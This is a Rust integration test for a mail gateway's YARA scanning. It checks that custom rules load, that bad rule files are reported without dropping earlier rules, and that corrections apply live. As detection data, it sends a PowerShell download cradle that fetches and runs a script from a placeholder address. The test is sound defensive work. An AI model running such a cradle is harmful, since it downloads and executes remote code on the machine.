//! An admin's YARA rules: in force while the node runs, and not taken away by a mistake, neither at once nor by a start.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use postern_tests::backend::Backend;
use postern_tests::documents::archive;
use postern_tests::gateway::{Gateway, binary, wait_until};
use postern_tests::network::{alone, lacking};
use postern_tests::smtp::{mail_with, send};

const LIMIT: Duration = Duration::from_secs(20);

fn settings(folder: &Path) -> String {
    format!(
        "[smtp]\nlisten = [\"127.0.0.1:2525\"]\ntrusted_listen = []\n[console]\nlisten = []\n[dns]\nenabled = false\n\
         [edge]\nallow = [\"127.0.0.0/8\"]\n[filter.bayes]\nenabled = false\n[sandbox]\nyara_rules = \"{}\"\n\
         [[domains]]\nname = \"example.net\"\nbackends = [{{ host = \"127.0.0.1\", port = 2524, tls = \"off\" }}]\n",
        folder.display()
    )
}

/// Evidences of the YARA symbols on a mail with this text in an archive.
fn found(gateway: &Gateway, subject: &str, text: &str) -> Vec<String> {
    let smtp: SocketAddr = "127.0.0.1:2525".parse().unwrap();
    let zip = archive(&[("notes.txt", format!("{text} {subject}").as_bytes())], None);
    let said = send(smtp, "anna@example.org", &["erika@example.net"], &mail_with(subject, "", &[("notes.zip", "application/zip", &zip)]));
    assert!(said.as_ref().unwrap().starts_with("250"), "{said:?}");
    let journey = gateway.journey(subject, LIMIT).unwrap();
    let steps = journey["steps"].as_array().unwrap();
    let apart = steps.iter().find(|step| step["event"] == "taken-apart");
    let findings = apart.map(|step| step["attachments"][0]["report"]["findings"].as_array().unwrap().clone()).unwrap_or_default();
    findings
        .iter()
        .filter(|f| f["name"].as_str().unwrap().starts_with("YARA"))
        .map(|f| format!("{} {}", f["name"].as_str().unwrap(), f["evidence"].as_str().unwrap()))
        .collect()
}

fn says(gateway: &Gateway, what: &str) {
    wait_until(what, LIMIT, || gateway.log().contains(what)).unwrap_or_else(|e| panic!("{e}: {}", gateway.log()));
}

#[test]
fn rules_of_a_folder_are_in_force_and_a_mistake_does_not_take_them_away() {
    if let Some(why) = lacking(&[]) {
        println!("skipped: {why}");
        return;
    }
    alone().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let (dir, rules) = (scratch.path().join("data"), scratch.path().join("rules"));
    let backend = Backend::smtp("127.0.0.1:2524".parse().unwrap()).unwrap();
    fs::create_dir(&rules).unwrap();
    fs::write(rules.join("company.yar"), "rule secret_word : info { strings: $a = \"xyzzy\" condition: $a }").unwrap();
    let sandbox = Gateway::sandbox(&binary(), &dir, &settings(&rules)).unwrap();
    let gateway = Gateway::node(&binary(), &dir, &settings(&rules)).unwrap();
    says(&gateway, "YARA rules are in force");
    let expected = "YARA_INFO company:secret_word [info], $a at 0";
    assert_eq!(found(&gateway, "First", "xyzzy"), [expected]);
    assert_eq!(found(&gateway, "Second", "nothing"), [] as [&str; 0]);
    // Ours are there beside them.
    let cradle = found(&gateway, "Third", "iex (new-object net.webclient).downloadstring('http://192.0.2.1/a')");
    assert!(cradle.len() == 1 && cradle[0].starts_with("YARA postern:powershell_cradle, "), "{cradle:?}");

    // A mistake: told with its place, and what was in force stays.
    fs::write(rules.join("more.yar"), "rule more : info {\n condition: $x\n}").unwrap();
    says(&gateway, "more.yar:2: error: unknown pattern");
    assert_eq!(found(&gateway, "Fourth", "xyzzy"), [expected]);
    let status = gateway.ask(&["sandbox", "status"]).unwrap();
    assert_eq!(status["rules"]["problems"][0]["file"], "more.yar", "{status}");
    let check = Command::new(binary()).args(["sandbox", "check-rules"]).arg(&rules).output().unwrap();
    let (said, why) = (String::from_utf8_lossy(&check.stdout), String::from_utf8_lossy(&check.stderr));
    assert!(!check.status.success() && said.contains("more.yar:2: error: ") && why.contains("1 errors"), "{said} {why}");

    // Both start anew over the mistake: the rules from before it are sent again.
    drop((gateway, sandbox));
    let sandbox = Gateway::sandbox(&binary(), &dir, &settings(&rules)).unwrap();
    let gateway = Gateway::again(&binary(), &dir).unwrap();
    assert_eq!(found(&gateway, "Fifth", "xyzzy"), [expected]);

    // Corrected, it is in force without a start; and the role may forget all, and is told again.
    let taken = || gateway.log().matches("YARA rules are in force").count();
    let before = taken();
    fs::write(rules.join("more.yar"), "rule more : info { strings: $x = \"plugh\" condition: $x }").unwrap();
    wait_until("the corrected rules", LIMIT, || taken() > before).unwrap();
    assert_eq!(found(&gateway, "Sixth", "plugh"), ["YARA_INFO more:more [info], $x at 0"]);
    drop(sandbox);
    let _sandbox = Gateway::sandbox(&binary(), &dir, &settings(&rules)).unwrap();
    assert_eq!(found(&gateway, "Seventh", "plugh"), ["YARA_INFO more:more [info], $x at 0"]);
    backend.wait_for(6, LIMIT).unwrap();
}
